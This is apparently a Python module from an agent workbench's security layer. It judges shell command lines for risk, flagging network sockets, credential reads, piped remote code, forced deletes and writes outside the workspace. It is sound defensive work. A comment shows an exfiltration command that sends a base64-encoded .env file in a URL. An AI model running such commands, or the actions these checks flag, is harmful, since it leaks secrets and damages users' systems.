"""Judging the simple commands of a shell line, by what each one does.

Wrappers (`sudo`, `env`, `timeout`, `xargs`, `find -exec` ...) are looked through to the
command they run; code handed to a shell or an interpreter (`sh -c`, `eval`, heredocs,
`python -c`, `perl -e` ...) goes back to the `Judge` for its language.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable
from dataclasses import dataclass

from workbench.events import RiskLevel
from workbench.security import command_risks as risks
from workbench.security import commands as known
from workbench.security import paths
from workbench.security.archives import extraction
from workbench.security.git_risks import git_config, git_overrides, git_risks
from workbench.security.risk import Category, Findings, Judge
from workbench.security.shell import DYNAMIC, Command, Line
from workbench.security.variables import variable_risks

_GLOB = re.compile(r"[*?\[]")
_REMOTE = re.compile(r"^(?:[\w.+-]+@)?[\w.-]+:(?!//)|^[a-z0-9+]+://")
_FD = re.compile(r"^(?:\d+|-)$")


def shown(word: str) -> str:
    """A word for a reason: run-time parts shown as `…`."""
    return word.replace(DYNAMIC, "…")


@dataclass
class _Scope:
    workspace: str
    judge: Judge
    findings: Findings
    depth: int
    cwd: str | None
    wrapped: int = 0
    git_dir: bool = False
    """True when the line asks git where its folder is (`$(git rev-parse --git-dir)/config`)."""

    def add(self, level: RiskLevel, reason: str, category: Category = "unclassified") -> None:
        self.findings.add(level, reason, category)

    def resolve(self, path: str) -> str | None:
        return paths.resolve(path, self.cwd)


def judge_line(line: Line, workspace: str, judge: Judge, findings: Findings, depth: int) -> None:
    """Judge every simple command of a parsed shell line."""
    scope = _Scope(workspace, judge, findings, depth, workspace)
    scope.git_dir = any(
        c.words[:1] == ["git"] and "rev-parse" in c.words and any(map(_names_git_dir, c.words))
        for c in line.commands
    )
    if line.errors:
        scope.add(
            "HIGH",
            "parts of the shell line do not parse, so what would run is unclear",
            "hidden_code",
        )
    words = [c.words for c in line.commands if c.words]
    if any(map(known.dumps_environment, words)) and any(map(known.uses_network, words)):
        scope.add(
            "HIGH", "sends the environment, which holds secrets, over the network", "credentials"
        )
    for name, value in line.assignments:
        _variable(name, value, scope)
    for command in line.commands:
        for name, value in command.env:
            _variable(name, value, scope)
        for redirect in command.redirects:
            _redirect(redirect.op, redirect.target, scope)
        if command.words:
            _command(command.words, command, scope)


def _names_git_dir(word: str) -> bool:
    return word in ("--git-dir", "--absolute-git-dir", "--git-common-dir", "--git-path")


def _variable(name: str, value: str, scope: _Scope) -> None:
    """Judge `name=value` set for the shell or for one command."""
    for level, reason in variable_risks(name, value):
        scope.add(level, reason)
    if name == "PROMPT_COMMAND":
        _shell_text(value, name, scope)


def _redirect(op: str, target: str, scope: _Scope) -> None:
    if target.startswith(("/dev/tcp/", "/dev/udp/")):
        scope.add("HIGH", f"opens a network connection ({shown(target)})", "network")
        return
    if "<" in op and ">" not in op:
        _reads(target, scope)
    elif not _FD.match(target):
        _writes(target, "writes", scope, scratch_ok=True)


def _reads(word: str, scope: _Scope) -> None:
    full = scope.resolve(word) or word.replace(DYNAMIC, "X")
    hit = paths.glob_hits(full, True) if _GLOB.search(full) else None
    if paths.credential(full) or hit:
        scope.add("HIGH", f"reads credentials ({shown(word)})", "credentials")


def _writes(
    word: str, verb: str, scope: _Scope, scratch_ok: bool = False, tree: bool = False
) -> None:
    """Judge a change to the file `word` (`verb` says what kind of change); `tree`: to the
    folder `word` and all it holds (a recursive copy, a move, a delete)."""
    full = scope.resolve(word)
    if full is None:
        tail = word.rpartition(DYNAMIC)[2]
        what = paths.protected_tail(tail) if DYNAMIC in word else None
        if what is None and scope.git_dir and word.startswith(DYNAMIC):
            what = paths.protected(f"{scope.workspace.rstrip('/')}/.git{tail}", scope.workspace)
        if what is not None:
            reason = f"a path known only when it runs, which may be a protected path ({what})"
            scope.add("HIGH", f"{verb} {shown(word)}, {reason}: {paths.PROTECTED_WHY}", "protected")
        return
    what = paths.protected(full, scope.workspace)
    if what is not None:
        scope.add("HIGH", paths.protected_reason(verb, word, what), "protected")
        return
    if tree and paths.holds_protected(full, scope.workspace):
        scope.add(
            "HIGH", paths.holds_protected_reason(verb, word, full, scope.workspace), "protected"
        )
        return
    hit = paths.glob_hits(full, False) if _GLOB.search(full) else None
    if paths.persistence(full) or hit:
        scope.add("HIGH", f"{verb} {word}, {paths.PERSISTS}", "persistence")
    elif paths.credential(full):
        scope.add("HIGH", f"{verb} {word}, which holds credentials", "credentials")
    elif not paths.inside(full, scope.workspace) and not (scratch_ok and paths.scratch(full)):
        scope.add("HIGH", f"{verb} {word}, outside the workspace", "outside")


def _fills(folder: str, names: tuple[str, ...] | None, verb: str, scope: _Scope) -> None:
    """Judge writing `names` into the folder `folder` (None: names not known before it runs,
    such as an archive's members: a folder holding protected paths is then HIGH)."""
    full = scope.resolve(folder)
    if full is None:
        return
    if names is None:
        if paths.holds_protected(full, scope.workspace):
            reason = paths.unknown_contents_reason(verb, folder, full, scope.workspace)
            scope.add("HIGH", reason, "protected")
        else:
            _writes(folder, verb, scope)
        return
    for name in names:
        _writes(posixpath.join(folder, name), verb, scope, tree=True)


def _command(words: list[str], command: Command, scope: _Scope) -> None:
    if scope.depth > known.MAX_DEPTH:
        scope.add("HIGH", "nests commands too deeply to follow", "hidden_code")
        return
    name = words[0]
    if DYNAMIC in name or _GLOB.search(name):
        why = f"runs a command whose name is known only when it runs ({shown(name)})"
        scope.add("HIGH", why, "hidden_code")
        return
    base = known.base_name(name)
    args = words[1:]
    for arg in args:
        if arg.startswith("-") and "=" in arg:
            arg = arg.partition("=")[2]
        if "/" in arg or arg.startswith("~"):
            _reads(arg, scope)
    handler = _HANDLERS.get(base) or (_interpreter if known.interpreter(base) else None)
    if handler is not None:
        handler(base, args, command, scope)
    for level, reason, category in risks.simple_risks(base, args):
        scope.add(level, reason, category)


def _run(words: list[str], command: Command, scope: _Scope) -> None:
    """Judge the command a wrapper runs."""
    if scope.wrapped >= known.MAX_WRAPPERS:
        scope.add("HIGH", "wraps commands in too many others to follow", "hidden_code")
    elif words:
        scope.wrapped += 1
        _command(words, command, scope)
        scope.wrapped -= 1


def _shell_text(text: str, what: str, scope: _Scope) -> None:
    if DYNAMIC in text:
        scope.add("HIGH", f"runs shell code known only when it runs ({what})", "hidden_code")
    scope.judge.shell(text.replace(DYNAMIC, "_"), scope.findings, scope.depth + 1)


# ---------------------------------------------------------------- handlers, one per command


def _cd(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    target = next((a for a in args if not a.startswith("-")), "~")
    scope.cwd = scope.resolve(target) if target != "-" else None


def _wrapper(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    if base == "env":
        words = iter(args)
        for word in words:
            name, eq, value = word.partition("=")
            if eq and re.match(r"^[A-Za-z_][A-Za-z0-9_]*$", name):
                _variable(name, value, scope)
            elif word in ("-u", "--unset", "-C", "--chdir"):
                next(words, None)
            elif not known.is_option(word):
                break
    if base in known.PRIVILEGE:
        scope.add("HIGH", f"runs as another user, usually root ({base})", "privilege")
    rest = known.unwrap(base, args)
    if rest is None:
        return
    if isinstance(rest, str):
        _shell_text(rest, base, scope)
    else:
        _run(rest, command, scope)


def _xargs(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    rest = known.unwrap(base, args)
    if not isinstance(rest, list) or not rest:
        return
    fed = [w for up in command.upstream for w in known.produced_words(up.words)] or [DYNAMIC]
    _run([*rest, *fed], command, scope)


def _find(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    starts = known.find_starts(args)
    if "-delete" in args:
        for start in starts:
            _writes(start, "deletes files under", scope)
    for action, run in known.find_actions(args):
        if action in ("-fprint", "-fprintf", "-fls", "-fprint0"):
            _writes(run[0] if run else DYNAMIC, "writes", scope)
            continue
        for start in starts:
            _run([start if w == "{}" else w for w in run], command, scope)


def _eval(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    _shell_text(" ".join(args), "eval", scope)


def _trap(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    if args and not args[0].startswith("-"):
        _shell_text(args[0], "trap", scope)


def _source(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    if args and DYNAMIC in args[0]:
        why = f"runs a script known only when it runs ({base} {shown(args[0])})"
        scope.add("HIGH", why, "hidden_code")


def _shell(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    code, script, reads_stdin = known.shell_invocation(args)
    if code is not None:
        _shell_text(code, f"{base} -c", scope)
    elif script is not None:
        if DYNAMIC in script:
            why = f"runs a script known only when it runs ({base} {shown(script)})"
            scope.add("HIGH", why, "hidden_code")
    elif reads_stdin:
        _stdin_code(base, command, scope, lambda text: _shell_text(text, base, scope))


def _stdin_code(base: str, command: Command, scope: _Scope, judge: Callable[[str], None]) -> None:
    """Code an interpreter reads from its input: a heredoc is judged, a pipe is not readable."""
    if command.upstream:
        sources = {known.base_name(up.words[0]) for up in command.sources() if up.words}
        if sources & known.DOWNLOADERS:
            scope.add("HIGH", f"runs code downloaded from the network (… | {base})", "remote_code")
        else:
            why = f"runs code piped into {base}, which cannot be read before it runs"
            scope.add("HIGH", why, "hidden_code")
    elif command.stdin is not None:
        judge(command.stdin)


def _interpreter(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    language = known.interpreter(base) or ""
    code, script, reads_stdin = known.interpreter_invocation(language, args)

    def run(text: str) -> None:
        if DYNAMIC in text:
            why = f"runs {language} code known only when it runs ({base})"
            scope.add("HIGH", why, "hidden_code")
        text = text.replace(DYNAMIC, "_")
        if language == "python":
            scope.judge.python(text, scope.findings, scope.depth + 1)
        else:
            scope.judge.script(language, text, scope.findings, scope.depth + 1)

    if code is not None:
        run(code)
    elif script is not None and DYNAMIC in script:
        why = f"runs a script known only when it runs ({base} {shown(script)})"
        scope.add("HIGH", why, "hidden_code")
    elif reads_stdin:
        _stdin_code(base, command, scope, run)
    if language == "perl" and any(a.startswith("-") and "i" in a[1:3] for a in args):
        for target in known.operands_after_code(args):
            _writes(target, "edits", scope)


def _delete(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    flags, targets = known.split_options(args, known.VALUE_OPTIONS.get(base, ()))
    recursive = any(f in ("-r", "-R", "--recursive") or known.in_cluster(f, "rR") for f in flags)
    force = any(f in ("-f", "--force") or known.in_cluster(f, "f") for f in flags)
    if base == "rm" and recursive and force:
        scope.add("HIGH", "recursive forced delete (rm -rf)", "delete")
    verb = {"shred": "shreds", "truncate": "truncates"}.get(base, "deletes")
    for target in targets:
        if recursive and DYNAMIC in target:
            why = f"deletes a path known only when it runs ({shown(target)})"
            scope.add("HIGH", why, "outside")
        _writes(target, verb, scope, tree=recursive)


def _copy(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    flags, operands = known.split_options(args, known.VALUE_OPTIONS.get(base, ()))
    if base == "rsync" or base == "scp":
        remote = [o for o in operands if _REMOTE.match(o)]
        if remote:
            why = f"copies files to or from another machine ({base} {remote[-1]})"
            scope.add("HIGH", why, "network")
            return
    dest = known.option_value(args, ("-t", "--target-directory"))
    folder = dest is not None
    if dest is None and len(operands) >= 2:
        dest = operands[-1]
        operands = operands[:-1]
    if base == "mv":
        for source in operands:
            _writes(source, "moves away", scope, tree=True)
    if dest is None:
        return
    verb = {"ln": "links", "mv": "moves into"}.get(base, "copies into")
    # `dest` is a folder the sources land in, or (one source) the new name of that source.
    folder = folder or dest.endswith("/") or posixpath.basename(dest) in ("", ".", "..")
    _writes(dest, verb, scope, tree=not folder and (base == "mv" or _recursive(base, flags)))
    for source in operands:
        name = posixpath.basename(source.rstrip("/"))
        if name in ("", ".", "..") or (base == "rsync" and source.endswith("/")):
            _fills(dest, None, verb, scope)  # a folder's contents: names not known here
        else:
            _fills(dest, (name,), verb, scope)
        if base == "ln":
            _link_target(source, dest, folder, scope)


def _link_target(target: str, link: str, folder: bool, scope: _Scope) -> None:
    """A link to a protected path, or to a folder holding them, is a way to write them."""
    where = link if folder else posixpath.dirname(link) or "."
    for full in (scope.resolve(target), scope.resolve(posixpath.join(where, target))):
        if full is None:
            continue
        what = paths.protected(full, scope.workspace)
        if what is not None:
            scope.add("HIGH", paths.protected_reason(f"links {link} to", target, what), "protected")
            return
        if paths.holds_protected(full, scope.workspace):
            reason = paths.holds_protected_reason(f"links {link} to", target, full, scope.workspace)
            scope.add("HIGH", reason, "protected")
            return


def _recursive(base: str, flags: list[str]) -> bool:
    """True when `cp`/`rsync` copies whole folders (`-r`, `-R`, `-a`)."""
    return base == "rsync" or any(
        f in ("--recursive", "--archive") or known.in_cluster(f, "rRa") for f in flags
    )


def _targets_after_mode(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    _, operands = known.split_options(args, known.VALUE_OPTIONS.get(base, ()))
    if base in ("chmod", "chown", "chgrp") and not known.option_value(args, ("--reference",)):
        operands = operands[1:]
    for target in operands:
        _writes(target, f"changes {known.CHANGE.get(base, 'the attributes of')}", scope)


def _creates(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    """`touch`, `mkdir`: new empty files and folders matter only where they are protected."""
    with_value = ("-d", "-r", "-t", "--date", "--reference") if base == "touch" else ("-m",)
    for target in known.split_options(args, with_value)[1]:
        full = scope.resolve(target)
        what = paths.protected(full, scope.workspace) if full is not None else None
        if what is not None:
            scope.add("HIGH", paths.protected_reason("creates", target, what), "protected")


def _tee(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    for target in known.split_options(args, ())[1]:
        _writes(target, "writes", scope, scratch_ok=True)


def _dd(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    for arg in args:
        if arg.startswith("of="):
            _writes(arg[3:], "overwrites", scope)
        elif arg.startswith("if="):
            _reads(arg[3:], scope)


def _sed(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    if any(a.startswith(("-i", "--in-place")) or known.in_cluster(a, "i") for a in args):
        for target in known.sed_files(args):
            _writes(target, "edits", scope)


def _downloads(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    # `curl "http://host/?d=$(base64 .env)"`: data sent in the URL itself, as a parameter
    # (a variable or a command's output) or in the path (a command's output; `v$VERSION` is
    # the everyday case, left alone).
    substituted = "$(" in command.text or "`" in command.text
    for url in args:
        address = url.partition("://")[2]
        path = address.partition("/")[2]
        if DYNAMIC in address.partition("?")[2] or (substituted and DYNAMIC in path):
            scope.add("HIGH", f"uploads data to the network in a URL ({base} {shown(url)})")
            break
    for target in known.download_targets(base, args):
        _writes(target, "downloads into", scope, scratch_ok=True)
    for source in known.upload_sources(base, args):
        scope.add("HIGH", f"uploads {shown(source)} to the network ({base})", "publishing")
        _reads(source, scope)


def _archive(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    unpacked = extraction(base, args)
    if unpacked is not None:
        _fills(unpacked.folder, unpacked.members, "extracts into", scope)


def _alias(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    for arg in args:
        name, eq, value = arg.partition("=")
        if eq:
            _shell_text(value, f"alias {name}", scope)


def _git(base: str, args: list[str], command: Command, scope: _Scope) -> None:
    for key, value in git_overrides(args):
        scope.add("HIGH", f"makes git run a program (git -c {key})", "hidden_code")
        if not value.startswith("$"):
            _shell_text(value.removeprefix("!"), f"git -c {key}", scope)
    sub, rest = known.git_subcommand(args)
    for level, reason in git_risks(sub, rest):
        scope.add(level, reason)
    if sub == "config":
        call = git_config(rest)
        if call.writes and call.file:
            _writes(call.file, "changes the git config in", scope)
    elif sub == "worktree" and rest[:1] == ["add"]:
        _, operands = known.split_options(rest[1:], ("-b", "-B", "--reason"))
        if operands:
            _writes(operands[0], "makes a worktree in", scope, tree=True)


_Handler = Callable[[str, list[str], Command, _Scope], None]
_HANDLERS: dict[str, _Handler] = {
    "cd": _cd,
    "pushd": _cd,
    "find": _find,
    "eval": _eval,
    "trap": _trap,
    "source": _source,
    ".": _source,
    "tee": _tee,
    "touch": _creates,
    "mkdir": _creates,
    "dd": _dd,
    "sed": _sed,
    "gsed": _sed,
    "git": _git,
    "alias": _alias,
    **dict.fromkeys(known.WRAPPERS, _wrapper),
    **dict.fromkeys(known.SHELLS, _shell),
    **dict.fromkeys(("rm", "rmdir", "unlink", "shred", "truncate", "srm", "wipe"), _delete),
    **dict.fromkeys(("cp", "mv", "ln", "install", "rsync", "scp"), _copy),
    **dict.fromkeys(known.CHANGE, _targets_after_mode),
    **dict.fromkeys(("curl", "wget"), _downloads),
    **dict.fromkeys(("tar", "gtar", "unzip", "bsdtar", "7z", "7za", "7zr"), _archive),
    "xargs": _xargs,
}
